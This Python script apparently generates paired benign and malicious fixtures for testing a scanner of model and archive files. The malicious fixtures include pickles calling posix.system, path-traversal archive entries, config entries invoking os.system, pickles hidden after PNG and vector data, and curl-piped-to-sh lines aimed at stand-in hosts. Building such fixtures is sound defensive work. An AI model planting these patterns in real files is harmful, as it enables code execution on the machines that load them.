"""Writes the files of this folder byte by byte: for each format that the other folders lack one, a file that is right and
one that is wrong within. Python's standard library alone; run in the folder. Nothing here runs anything: commands are
`true`, and paths are names of one letter."""

import base64
import hashlib
import io
import json
import lzma
import os
import struct
import tarfile
import zipfile
import zlib

CALL = b"cposix\nsystem\n(S'true'\ntR."


def put(path, data):
    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
    with open(path, "wb") as file:
        file.write(data)


def safetensors():
    header = json.dumps({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}).encode()
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + b"\0" * 8


# Protocol buffers
def varint(number):
    out = b""
    while True:
        number, low = number >> 7, number & 127
        if not number:
            return out + bytes([low])
        out += bytes([low | 128])


def number(field, value):
    return varint(field << 3) + varint(value)


def field(number_, value):
    value = value.encode() if isinstance(value, str) else value
    return varint(number_ << 3 | 2) + varint(len(value)) + value


# Archives
def tar(name):
    data = safetensors()
    info = tarfile.TarInfo(name)
    info.size = len(data)
    return info.tobuf(tarfile.USTAR_FORMAT) + data + b"\0" * (-len(data) % 512) + b"\0" * 1024


def zipped(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name), data)
    return out.getvalue()


def sevenzip(name, data):
    size = bytes([len(data)]) if len(data) < 128 else bytes([0x80 | len(data) >> 8, len(data) & 255])
    text = name.encode("utf-16-le") + b"\0\0"
    streams = (
        b"\x04\x06\x00\x01\x09" + size + b"\x00"
        b"\x07\x0b\x01\x00\x01\x01\x00\x0c" + size
        + b"\x0a\x01" + struct.pack("<I", zlib.crc32(data)) + b"\x00\x00"
    )
    files = b"\x05\x01\x11" + bytes([len(text) + 1]) + b"\x00" + text + b"\x00"
    header = b"\x01" + streams + files + b"\x00"
    start = struct.pack("<QQI", len(data), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + data + header


def zstd(data):
    return b"\x28\xb5\x2f\xfd\x20" + bytes([len(data)]) + struct.pack("<I", len(data) << 3 | 1)[:3] + data


def xxh32(data):
    """Of fewer than four bytes, without a seed."""
    mask = 0xFFFFFFFF
    value = (374761393 + len(data)) & mask
    for byte in data:
        value = (value + byte * 374761393) & mask
        value = (value << 11 | value >> 21) & mask
        value = value * 2654435761 & mask
    value = (value ^ value >> 15) * 2246822519 & mask
    value = (value ^ value >> 13) * 3266489917 & mask
    return value ^ value >> 16


def lz4(data):
    flags = b"\x60\x40"
    head = b"\x04\x22\x4d\x18" + flags + bytes([xxh32(flags) >> 8 & 255])
    return head + struct.pack("<I", len(data) | 1 << 31) + data + b"\0\0\0\0"


put("tar/right.tar", tar("w.safetensors"))
put("tar/wrong.tar", tar("../w.safetensors"))
put("7z/right.7z", sevenzip("w.safetensors", safetensors()))
put("7z/wrong.7z", sevenzip("../w.safetensors", safetensors()))
put("zstd/right.safetensors.zst", zstd(safetensors()))
put("zstd/wrong.pkl.zst", zstd(CALL))
put("lz4/right.safetensors.lz4", lz4(safetensors()))
put("lz4/wrong.pkl.lz4", lz4(CALL))
put("xz/wrong.pkl.xz", lzma.compress(CALL))
put("lzma/wrong.pkl.lzma", lzma.compress(CALL, lzma.FORMAT_ALONE))

# Programs: what runs on no machine, for there is nothing behind the head
put("llamafile/wrong.llamafile", b"MZqFpD='\n" + b"\0" * 64)
put("java-class/wrong.class", bytes.fromhex("cafebabe00000034") + b"\0" * 16)
put("zipapp/wrong.pyz", zipped([("__main__.py", b"print(1)\n")]))

# Graphs and tensors
weight = field(1, varint(2)) + number(2, 1) + field(8, "w")
entry = lambda key, value: field(13, field(1, key) + field(2, value))
weight += entry("location", "w.data") + entry("length", "8") + number(14, 1)
node = field(1, "w") + field(2, "y") + field(4, "Relu")
graph = field(1, node) + field(2, "g") + field(5, weight)
onnx = number(1, 8) + field(7, graph) + field(8, number(2, 17))
put("onnx-external-data/m.onnx", onnx)
put("onnx-external-data/w.data", b"\0" * 8 + b"x" * 80)

tensorflow = field(1, field(1, "a") + field(2, "NoOp"))
put("tensorflow-graphdef/right.pb", tensorflow)
put("tensorflow-metagraph/right.meta", field(2, tensorflow))
put("tensorflow-text/right.pbtxt", b'node { name: "a" op: "NoOp" }\n')
put("tensorflow-text/wrong.pbtxt", b'node { name: "a" op: "PyFunc" }\n')
put("tensorflow-checkpoint-state/right", b'model_checkpoint_path: "m"\nall_model_checkpoint_paths: "m"\n')
put("tensorflow-checkpoint-state/wrong", b'model_checkpoint_path: "../m"\nall_model_checkpoint_paths: "../m"\n')


def layer(class_name):
    text = {"class_name": class_name, "config": {"name": "a"}}
    return field(1, number(2, 1) + field(3, "root.a") + field(4, "_tf_keras_layer") + field(5, json.dumps(text)))


put("tensorflow-keras-metadata/right/keras_metadata.pb", layer("Dense"))
put("tensorflow-keras-metadata/wrong/keras_metadata.pb", layer("Lambda"))

# The index of a checkpoint as TensorFlow wrote it, with less data than it tells of, and with more
with open("../tensorflow/variables.index", "rb") as file:
    index = file.read()
put("tensorflow-checkpoint-index/wrong.index", index)
put("tensorflow-checkpoint-index/wrong.data-00000-of-00001", b"\0")
put("tensorflow-checkpoint-data/v.index", index)
put("tensorflow-checkpoint-data/v.data-00000-of-00001", b"\0" * 4096)

put("executorch/right.pte", struct.pack("<I", 12) + b"ET12" + struct.pack("<HHi", 4, 4, 4) + b"\0" * 8)
network = lambda layer: number(1, 4) + field(500, field(1, field(1, "l") + layer))
put("coreml/right.mlmodel", network(field(100, b"")))


def blocks(size):
    bytes_ = bytearray(64 * 3 + 8)
    bytes_[0], bytes_[4] = 1, 2
    bytes_[64:68] = struct.pack("<I", 0xDEADBEEF)
    bytes_[72], bytes_[80] = size, 128
    return bytes(bytes_)


put("coreml-weights/right/weight.bin", blocks(72))
put("coreml-weights/wrong/weight.bin", blocks(80))
program = lambda operator: field(1, number(1, 0) + number(2, 0) + field(4, field(3, operator)))
put("paddle/right.pdmodel", program("matmul_v2"))
put("paddle/wrong.pdmodel", program("py_func"))
shape = number(1, 5) + number(2, 2)
parameter = b"\0" * 16 + struct.pack("<I", len(shape)) + shape + b"\0" * 8
put("paddle-parameters/right.pdiparams", parameter)
put("paddle-parameters/wrong.pdiparams", parameter + parameter[:-4])
constant = '<layer id="0" name="w" type="Const" version="opset1"><data shape="4" offset="0" size="16"/></layer>'
net = f'<?xml version="1.0"?><net name="m" version="11"><layers>{constant}</layers></net>'
put("openvino-weights/m.xml", net.encode())
put("openvino-weights/m.bin", b"\x09" * 96)

# Texts and documents
put("xml/right.xml", b'<?xml version="1.0"?><note><a>1</a></note>\n')
put("xml/wrong.xml", b'<?xml version="1.0"?><note><a>1</note>\n')
put("json/wrong.json", b'{"a": 1, "a": 2}\n')
put("keras-metadata/right/metadata.json", b'{"keras_version": "3.0.0", "date_saved": "2026-01-01"}\n')
put("keras-metadata/wrong/metadata.json", b'{"keras_version": "3.0.0", "date_saved": "a", "date_saved": "b"}\n')
skops = {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {}}
put("skops-schema/right/schema.json", json.dumps({**skops, "_skops_version": "0.11"}).encode())
skops["content"] = {"__class__": "system", "__module__": "posix", "__loader__": "FunctionNode", "content": {}}
put("skops-schema/wrong/schema.json", json.dumps({**skops, "_skops_version": "0.11"}).encode())
put("xgboost-json/wrong.json", b'{"learner": {"a": 1, "a": 2}, "version": [2, 1, 0]}\n')
put("hydra-config/wrong.json", b'{"a": {"_target_": "os.system"}}\n')
put("tokenizer/wrong.json", b'{"model": {"type": "BPE", "vocab": {"a": 1, "a": 2}, "merges": []}}\n')
put("requirements/right/requirements.txt", b"numpy==1.26.4\n")
put("python/right.py", b"# Nothing is in it.\n")
put("yaml/right.yaml", b"a: 1\nb: [1, 2]\n")
put("lightgbm/wrong.txt", b"tree\nversion=v4\nnum_class=1\n\0\0\0\0")


def logging_dict(handler):
    return json.dumps({"version": 1, "handlers": {"h": handler}, "root": {"handlers": ["h"]}}).encode()


put("logging-dict/right.json", logging_dict({"class": "logging.StreamHandler", "stream": "ext://sys.stdout"}))
put("logging-dict/wrong.json", logging_dict({"()": "os.system", "command": "true"}))


def notebook(source):
    cell = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source}
    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


put("notebook/right.ipynb", notebook("x = 1\n"))
put("notebook/wrong.ipynb", notebook("!curl http://localhost/a | sh\n"))
put("kitfile/right/Kitfile", b"manifestVersion: 1.0.0\npackage:\n  name: a\nmodel:\n  path: ./a.gguf\n")
put("kitfile/wrong/Kitfile", b"manifestVersion: 1.0.0\ncode:\n- path: ../../a\n")
put("go-template/right.gotmpl", b"{{- if .System }}{{ .System }}\n{{ end }}{{ .Prompt }}\n")
put("go-template/wrong.gotmpl", b"{{ .Prompt }}\n" * 1500 + b"\0\0\0\0")
put("text/wrong.txt", b"a word\n" * 2500 + b"\0\0\0\0")

def manifest(path):
    return json.dumps({"fileFormatVersion": "1.0.0", "itemInfoEntries": {"A": {"path": path}}}).encode()


def oci(annotations):
    digest = "sha256:" + "0" * 64
    layer = {"mediaType": "application/vnd.cncf.model.weight.v1.raw", "digest": digest, "size": 8, "annotations": annotations}
    return json.dumps({"schemaVersion": 2, "config": {"digest": digest, "size": 2}, "layers": [layer]}).encode()


def pir(name):
    operators = [{"#": "1.data"}, {"#": name}, {"#": "1.fetch"}]
    blocks = [{"#": "block_0", "args": [], "ops": operators}]
    program = {"regions": [{"#": "region_0", "blocks": blocks}]}
    return json.dumps({"base_code": {"magic": "pir", "version": 1}, "program": program}).encode()


def pieces():
    piece = lambda text, kind: field(1, field(1, text) + varint(2 << 3 | 5) + struct.pack("<f", 0) + number(3, kind))
    return piece("<unk>", 2) + piece("\u2581a", 1) + field(2, number(4, 2))


# Binary documents
put("ubjson/right.ubj", b"{U\x01ai\x01}")
put("ubjson/wrong.ubj", b"{U\x01a[$d#L\x7f\xff\xff\xff\xff\xff\xff\xff}")
put("msgpack/right.msgpack", b"\x82\xa1a\xc7\x03\x01abc\xa1b\x92\xcb\0\0\0\0\0\0\0\0\xc0")
put("msgpack/wrong.msgpack", b"\x81\xa1a\xdd\xff\xff\xff\xff")
put("coreml-manifest/right/Manifest.json", manifest("com.apple.CoreML/model.mlmodel"))
put("coreml-manifest/wrong/Manifest.json", manifest("../../a.mlmodel"))
put("oci-manifest/right.json", oci({"org.cncf.model.filepath": "a.safetensors"}))
put("oci-manifest/wrong.json", oci({"org.opencontainers.image.title": "../../a"}))
put("paddle-json/right.json", pir("1.matmul"))
put("paddle-json/wrong.json", pir("1.py_func"))
put("sentencepiece/right.model", pieces())
put("sentencepiece/wrong.model", pieces() + field(99, CALL))
put("rds/second_byte.rds", b"X?" + struct.pack(">iiiiii", 2, 0x30500, 0x20300, 6, 1, 0x40009) + struct.pack(">i", 6) + b"system" + struct.pack(">i", 254))
put("catboost/right.cbm", b"CBM1\x04\0\0\0\0\0\0\0")
put("catboost/wrong.cbm", b"CBM1\xff\0\0\0\0\0\0\0")
# One whole number, as R 3.5 writes it.
put("rds/right.rds", b"X\n" + struct.pack(">iiiiii", 2, 0x30500, 0x20300, 13, 1, 1))

# Archives of one kind
put("mar/right.mar", zipped([("MAR-INF/MANIFEST.json", b"{}"), ("w.safetensors", safetensors())]))
# Wheels
def wheel(members, unlisted=()):
    info = "scorer-1.0.dist-info"
    files = members + [
        (f"{info}/METADATA", b"Metadata-Version: 2.1\nName: scorer\nVersion: 1.0\nRequires-Dist: numpy>=1.26\n"),
        (f"{info}/WHEEL", b"Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
    ]
    lines = []
    for name, data in files:
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        lines.append(f"{name},sha256={digest},{len(data)}\n")
    record = "".join(lines) + f"{info}/RECORD,,\n"
    return zipped(files + list(unlisted) + [(f"{info}/RECORD", record.encode())])


put("wheel/right.whl", wheel([("scorer/weights.safetensors", safetensors()), ("scorer/py.typed", b"")]))
put("wheel/wrong.whl", wheel([("scorer.pth", b"import scorer.setup\n")], [("scorer/late.txt", b"later\n")]))

put(
    "torch-package/right.pt",
    zipped([("p/.data/extern_modules", b"torch\n"), ("p/.data/python_version", b"3.11\n"), ("p/w.safetensors", safetensors())]),
)

# Pictures; behind the end of the wrong one lies a pickle.
def chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


PICTURE = (
    b"\x89PNG\r\n\x1a\n"
    + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    + chunk(b"IDAT", zlib.compress(b"\0\0"))
    + chunk(b"IEND", b"")
)
put("picture/right.png", PICTURE)
put("picture/wrong.png", PICTURE + CALL)


# What macOS leaves beside files: the wrong one has an entry that lies outside it.
def apple_double(length):
    return b"\0\x05\x16\x07\0\x02\0\0" + b"Mac OS X        " + struct.pack(">HIII", 1, 9, 38, length) + b"abcd"


put("apple-metadata/._right.pkl", apple_double(4))
put("apple-metadata/._wrong.pkl", apple_double(5))


# Logs of a training run. Checksums are not looked at.
def record(length):
    event = b"\x09" + struct.pack("<d", 1.0) + field(3, "brain.Event:2")
    return struct.pack("<Q", length or len(event)) + b"\0" * 4 + event + b"\0" * 4


put("tensorboard-events/events.out.tfevents.1.right", record(0) + record(0))
put("tensorboard-events/events.out.tfevents.1.wrong", record(0) + record(99))

# Configurations of logging: arguments are evaluated.
LOGGING = b"[handlers]\nkeys=a\n[handler_a]\nclass=StreamHandler\nargs=(sys.stdout,)\n"
put("logging-config/right.conf", LOGGING)
put("logging-config/wrong.conf", LOGGING + b"kwargs={'a': __import__('os').system('true')}\n")


# Exported programs: the wrong one has a pickle that calls among its sample inputs.
def exported(inputs):
    return zipped(
        [
            ("a/archive_format", b"pt2"),
            ("a/models/model.json", b'{"graph_module": {}}'),
            ("a/data/weights/weight_0", struct.pack("<f", 1.0)),
            ("a/data/sample_inputs/model.pt", inputs),
            ("a/byteorder", b"little"),
        ]
    )


put("torch-export/right.pt2", exported(b"\x80\x02N."))
put("torch-export/wrong.pt2", exported(CALL))


# Distributed checkpoints of PyTorch. The right one is as PyTorch 2.9 wrote it; of the wrong one an object calls.
def places(parts):
    text = lambda value: b"X" + struct.pack("<I", len(value)) + value.encode()
    number_ = lambda value: b"J" + struct.pack("<i", value)
    out = b"\x80\x02ctorch.distributed.checkpoint.metadata\nMetadata\n)\x81}" + text("storage_data") + b"}("
    for name, (offset, length) in parts:
        out += b"ctorch.distributed.checkpoint.metadata\nMetadataIndex\n)\x81}" + text("fqn") + text(name) + b"sb"
        out += b"ctorch.distributed.checkpoint.filesystem\n_StorageInfo\n)\x81}(" + text("relative_path")
        out += text("__0_0.distcp") + text("offset") + number_(offset) + text("length") + number_(length) + b"ub"
    return out + b"usb."


def saved(pickle):
    return zipped([("archive/data.pkl", pickle), ("archive/byteorder", b"little"), ("archive/version", b"3\n")])


first, second = saved(b"\x80\x02}."), saved(CALL)
put("torch-distcp/wrong/.metadata", places([("a", (0, len(first))), ("b", (len(first), len(second)))]))
put("torch-distcp/wrong/__0_0.distcp", first + second)

# Settings: the wrong ones have a build run code of the folder, or what it downloads.
put("toml/right.toml", b'a = 1\n[b]\nc = ["d"]\n')
put("toml/wrong.toml", b"a = 1\na = 2\n")
BUILD = b'[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n'
put("python-project/right/pyproject.toml", BUILD + b'[project]\nname = "a"\nversion = "1"\ndependencies = ["numpy==1.26.4"]\n')
put("python-project/wrong/pyproject.toml", BUILD + b'backend-path = ["."]\n')
OPTIONS = b"[metadata]\nname = a\nversion = 1\n\n[options]\ninstall_requires =\n    numpy==1.26.4\n"
put("ini/right/setup.cfg", OPTIONS)
put("ini/wrong/setup.cfg", OPTIONS + b"cmdclass =\n    build_py = a.Build\n")
IMAGE = b"FROM python:3.11-slim\nCOPY requirements.txt .\nRUN pip install -r requirements.txt\n"
put("dockerfile/right/Dockerfile", IMAGE)
put("dockerfile/wrong/Dockerfile", IMAGE + b"RUN curl https://models.invalid/a | sh\n")


# Records of examples: a value of the wrong one is a pickle that calls.
def crc32c(data):
    sum_ = 0xFFFFFFFF
    for byte in data:
        sum_ ^= byte
        for _ in range(8):
            sum_ = sum_ >> 1 ^ (0x82F63B78 if sum_ & 1 else 0)
    sum_ ^= 0xFFFFFFFF
    return struct.pack("<I", ((sum_ >> 15 | sum_ << 17) + 0xA282EAD8) & 0xFFFFFFFF)


def tfrecord(value):
    feature = lambda key, list_: field(1, field(1, key) + field(2, list_))
    data = field(1, feature("label", field(3, field(1, varint(1)))) + feature("image", field(1, field(1, value))))
    length = struct.pack("<Q", len(data))
    return length + crc32c(length) + data + crc32c(data)


put("tfrecord/right.tfrecord", tfrecord(b"\x07" * 32) + tfrecord(PICTURE))
put("tfrecord/wrong.tfrecord", tfrecord(b"\x07" * 32) + tfrecord(CALL))

# Vectors of words; behind the end of the wrong one lies a pickle.
VECTORS = b"2 2\n" + b"".join(word + b" " + struct.pack("<ff", 1.5, -2.25) + b"\n" for word in (b"</s>", b"heart"))
put("word2vec/right.bin", VECTORS)
put("word2vec/wrong.bin", VECTORS + CALL)
put("word-vectors/right.vec", b"2 3\nheart 0.1 -2 3e-5\nlung 1 2 3\n")
put("word-vectors/wrong.vec", b"2 3\nheart 0.1 -2 3e-5\nlung 1 2\n")
